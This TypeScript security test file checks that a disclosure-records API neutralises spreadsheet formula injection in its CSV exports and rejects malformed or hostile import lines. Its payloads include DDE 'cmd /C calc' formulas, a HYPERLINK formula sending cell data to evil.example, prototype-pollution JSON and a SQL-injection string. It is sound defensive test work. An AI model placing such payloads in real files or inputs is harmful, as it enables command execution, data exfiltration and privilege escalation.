import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { auditCsvLine, registerCsvLine } from '#documents';
import { plusDays } from '../support/request-scenarios.js';
import { HUGE_STRINGS, INVALID_DATES } from './support/hostile.js';
import { DataFingerprint, RUNS_PER_ENDPOINT, inject, runSeed, say } from './support/security-kit.js';
import { buildExport, useWorld, type World } from './support/world.js';

/** OWASP CSV injection: a cell a spreadsheet would run as a formula. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180 cells of a CSV text (quoted fields, doubled quotes, CRLF). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('disclosure import and CSV exports', () => {
  let world: World;
  let fingerprint: DataFingerprint;
  const results = useWorld('import-csv', (built, data) => {
    world = built;
    fingerprint = data;
  });
  const seed = runSeed();

  const importFile = (text: string, contentType: string, headers: Record<string, string> = {}) =>
    inject(world.api, 'POST', '/api/v1/disclosures/import', {
      token: world.staff.integration.token,
      body: text,
      headers: { 'content-type': contentType, ...headers },
    });

  it('formula injection in imported disclosure fields and request headers is neutralised in every CSV export', async () => {
    const line = (index: number, formula: string) => ({
      patientId: world.patientId,
      disclosedAt: plusDays(world.today, -1),
      recipient: { name: formula, address: formula, agency: formula },
      description: formula,
      purpose: formula,
      category: 'law_enforcement',
      madeBy: formula,
      sourceSystem: formula.slice(0, 100),
      sourceId: `${formula}-${index}-${randomBytes(3).toString('hex')}`,
    });
    const ndjson = FORMULAS.map((formula, index) => JSON.stringify(line(index, formula))).join('\n');
    const header = 'patientId,disclosedAt,recipient.name,recipient.address,description,purpose,category,sourceSystem,sourceId';
    const quote = (value: string) => `"${value.replace(/"/g, '""')}"`;
    const csv = [
      header,
      ...FORMULAS.map((formula, index) =>
        [
          world.patientId,
          plusDays(world.today, -1),
          quote(formula),
          quote(formula),
          quote(formula),
          quote(formula),
          'law_enforcement',
          'csv-feed',
          quote(`${formula}#csv${index}`),
        ].join(','),
      ),
    ].join('\r\n');
    // Headers an attacker controls that reach the audit log: the client address (behind a proxy) and the request id.
    const hostileHeaders = { 'x-forwarded-for': "=cmd|' /C calc'!A0", 'x-request-id': '-cmd-calc-A0-x' };
    const imported = await importFile(ndjson, 'application/x-ndjson', hostileHeaders);
    expect(imported.body).toMatchObject({ imported: FORMULAS.length, rejectedTotal: 0 });
    const importedCsv = await importFile(csv, 'text/csv', hostileHeaders);
    expect(importedCsv.body).toMatchObject({ imported: FORMULAS.length, rejectedTotal: 0 });

    const offenders: string[] = [];
    let cells = 0;
    for (const body of [
      { kind: 'audit_log', format: 'csv', from: world.today, to: world.today },
      { kind: 'request_register', format: 'csv', from: plusDays(world.today, -30), to: world.today },
    ]) {
      const queued = await inject(world.api, 'POST', '/api/v1/exports', { token: world.staff.auditor.token, body });
      expect(queued.status).toBe(202);
      await buildExport(world.db, world.worker, queued.body.id);
      const file = await inject(world.api, 'GET', `/api/v1/exports/${queued.body.id}/file`, { token: world.staff.auditor.token });
      expect(file.status).toBe(200);
      const rows = csvCells(file.text);
      for (const row of rows.slice(1)) {
        for (const cell of row) {
          cells += 1;
          if (FORMULA_START.test(cell)) offenders.push(`${body.kind}: ${JSON.stringify(cell.slice(0, 60))}`);
        }
      }
      if (body.kind === 'audit_log') {
        // The hostile header values are there, made inert by the leading apostrophe.
        expect(file.text).toContain("'=cmd|' /C calc'!A0");
        expect(file.text).toContain("'-cmd-calc-A0-x");
      }
    }
    // The writers themselves, for any value in any column (the register's cells are the system's own codes today).
    const writerOffenders: string[] = [];
    await fc.assert(
      fc.property(fc.constantFrom(...FORMULAS, '=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 30 }), (start, rest) => {
        const value = `${start}${rest}`;
        const audit = csvCells(
          auditCsvLine({
            id: value,
            occurredAt: value,
            actor: value,
            action: value,
            targetType: value,
            targetId: value,
            patientId: value,
            outcome: value,
            clientAddress: value,
            requestId: value,
            hash: value,
            details: value,
          }),
        )[0];
        const register = csvCells(
          registerCsvLine({
            reference: value,
            type: value,
            receivedOn: value,
            dueOn: value,
            extended: false,
            originalDueOn: value,
            status: value,
            closedOn: value,
            open: false,
            onTime: true,
            daysLate: 0,
            daysToClose: 1,
          } as Parameters<typeof registerCsvLine>[0]),
        )[0];
        const bad = [...audit, ...register].filter((cell) => FORMULA_START.test(cell));
        if (bad.length) writerOffenders.push(JSON.stringify(value));
        return bad.length === 0;
      }),
      { numRuns: RUNS_PER_ENDPOINT, seed },
    );
    results.add({
      scenario: 'csv-formula',
      payloads: FORMULAS,
      exportCells: cells,
      offenders,
      writerCases: RUNS_PER_ENDPOINT,
      seed,
      writerOffenders,
    });
    say(
      `import-csv: ${FORMULAS.length} formula payloads × 7 fields × NDJSON+CSV import + hostile X-Forwarded-For/X-Request-Id; audit-log and register CSV exports: ${cells} cells, ${offenders.length} starting with = + - @ tab CR; CSV writers: ${RUNS_PER_ENDPOINT} generated values (seed ${seed}), ${writerOffenders.length} not neutralised`,
    );
    expect(offenders).toEqual([]);
  }, 90_000);

  it('malformed NDJSON and CSV lines are reported by line and never half-stored; hostile lines store nothing', async () => {
    const valid = (id: string) => ({
      patientId: world.patientId,
      disclosedAt: plusDays(world.today, -2),
      recipient: { name: 'Registry' },
      description: 'Report',
      purpose: 'Statute',
      category: 'public_health',
      sourceSystem: 'malformed-feed',
      sourceId: id,
    });
    const tag = randomBytes(3).toString('hex');
    const hostile: [string, string][] = [
      ['broken JSON', '{"patientId": "x",'],
      ['an array', '[1,2,3]'],
      ['a string', '"hello"'],
      ['null', 'null'],
      ['unknown field', JSON.stringify({ ...valid(`bad-unknown-${tag}`), diagnosis: 'x' })],
      ['wrong type', JSON.stringify({ ...valid(`bad-type-${tag}`), description: 42 })],
      ['recipient as array', JSON.stringify({ ...valid(`bad-recipient-${tag}`), recipient: [{ name: 'X' }] })],
      ['invalid date', JSON.stringify({ ...valid(`bad-date-${tag}`), disclosedAt: INVALID_DATES[0] })],
      ['time zone', JSON.stringify({ ...valid(`bad-tz-${tag}`), disclosedAt: '2026-01-01T10:00:00[Mars/Olympus]' })],
      ['future', JSON.stringify({ ...valid(`bad-future-${tag}`), disclosedAt: plusDays(world.today, 5) })],
      ['__proto__', `{"__proto__": {"isAdmin": true}, ${JSON.stringify(valid(`bad-proto-${tag}`)).slice(1)}`],
      ['constructor', JSON.stringify({ ...valid(`bad-ctor-${tag}`), constructor: { prototype: { isAdmin: true } } })],
      ['hasOwnProperty', JSON.stringify({ ...valid(`bad-own-${tag}`), hasOwnProperty: 'x' })],
      ['huge field', JSON.stringify({ ...valid(`bad-huge-${tag}`), description: HUGE_STRINGS[1] })],
      ['over the line limit', JSON.stringify({ ...valid(`bad-long-${tag}`), purpose: 'x'.repeat(70_000) })],
      ['deep nesting', `{"patientId":${'['.repeat(5000)}${']'.repeat(5000)}}`],
      ['unknown patient', JSON.stringify({ ...valid(`bad-patient-${tag}`), patientId: '6f1c1a4e-0000-4000-8000-000000000009' })],
      ['no source id', JSON.stringify({ ...valid(''), sourceId: undefined })],
      ['invalid UTF-8', Buffer.from([0xff, 0xfe, 0x7b]).toString('latin1')],
    ];
    const goods = [valid(`good-1-${tag}`), valid(`good-2-${tag}`)];
    const lines = [JSON.stringify(goods[0]), ...hostile.map(([, text]) => text), JSON.stringify(goods[1])];
    const before = await fingerprint.take();
    const before_n = (await world.db.query(`SELECT count(*)::int AS n FROM disclosures WHERE source_system = 'malformed-feed'`)).rows[0].n;
    const report = await importFile(`${lines.join('\n')}\n`, 'application/x-ndjson');
    expect(report.status).toBe(200);
    const rejectedLines = report.body.rejected.map((item: { line: number }) => item.line);
    const expectedLines = hostile.map((_, index) => index + 2);
    const stored = await world.db.query(`SELECT source_id FROM disclosures WHERE source_system = 'malformed-feed' AND source_id LIKE $1`, [
      `%${tag}`,
    ]);
    const ok = report.body.rejected.map((item: { line: number }) => item.line);
    const through = hostile.filter((_, index) => !ok.includes(index + 2)).map(([name]) => name);
    expect(through).toEqual([]);
    expect(report.body).toMatchObject({ imported: 2, rejectedTotal: hostile.length });
    expect(rejectedLines).toEqual(expectedLines);
    expect(stored.rows.map((row) => row.source_id).sort()).toEqual(goods.map((good) => good.sourceId).sort());

    // CSV: a short row, a long row, an unterminated quote, a formula cell in a date, a bad category; the good rows land whole.
    const header = 'patientId,disclosedAt,recipient.name,recipient.address,description,purpose,category,sourceSystem,sourceId';
    const row = (id: string, overrides: Partial<Record<string, string>> = {}) => {
      const cells = {
        patientId: world.patientId,
        disclosedAt: plusDays(world.today, -2),
        'recipient.name': 'Registry',
        'recipient.address': '',
        description: 'Report',
        purpose: 'Statute',
        category: 'public_health',
        sourceSystem: 'malformed-feed',
        sourceId: id,
        ...overrides,
      };
      return Object.values(cells).join(',');
    };
    const csv = [
      header,
      row(`csv-good-1-${tag}`),
      row(`csv-short-${tag}`).split(',').slice(0, 7).join(','),
      `${row(`csv-long-${tag}`)},extra,cells`,
      row(`csv-date-${tag}`, { disclosedAt: '=1+1' }),
      row(`csv-cat-${tag}`, { category: "' OR 1=1--" }),
      row(`csv-good-2-${tag}`),
      `${world.patientId},2026-01-01,"unterminated,quote`,
    ].join('\r\n');
    const csvReport = await importFile(csv, 'text/csv');
    expect(csvReport.status).toBe(200);
    const csvStored = await world.db.query(`SELECT source_id FROM disclosures WHERE source_id LIKE 'csv-%' AND source_id LIKE $1`, [
      `%${tag}`,
    ]);
    expect(csvStored.rows.map((r) => r.source_id).sort()).toEqual([`csv-good-1-${tag}`, `csv-good-2-${tag}`]);
    expect(csvReport.body.imported).toBe(2);
    expect(csvReport.body.rejectedTotal).toBeGreaterThanOrEqual(4);
    const after = await fingerprint.take();
    const added =
      (await world.db.query(`SELECT count(*)::int AS n FROM disclosures WHERE source_system = 'malformed-feed'`)).rows[0].n - before_n;
    expect(added).toBe(4);
    results.add({
      scenario: 'import-malformed',
      ndjson: { lines: lines.length, hostile: hostile.map(([name]) => name), rejectedLines, imported: report.body.imported },
      csv: { rows: 7, imported: csvReport.body.imported, rejected: csvReport.body.rejected },
      changedTables: DataFingerprint.diff(before, after),
    });
    say(
      `import-csv: NDJSON with ${hostile.length} malformed/hostile lines between 2 good ones: ${report.body.rejectedTotal} reported by line, 2 stored whole, 0 hostile stored; CSV with 4 malformed rows + an unterminated quote: ${csvReport.body.rejectedTotal} reported, 2 good rows stored`,
    );
  }, 60_000);
});
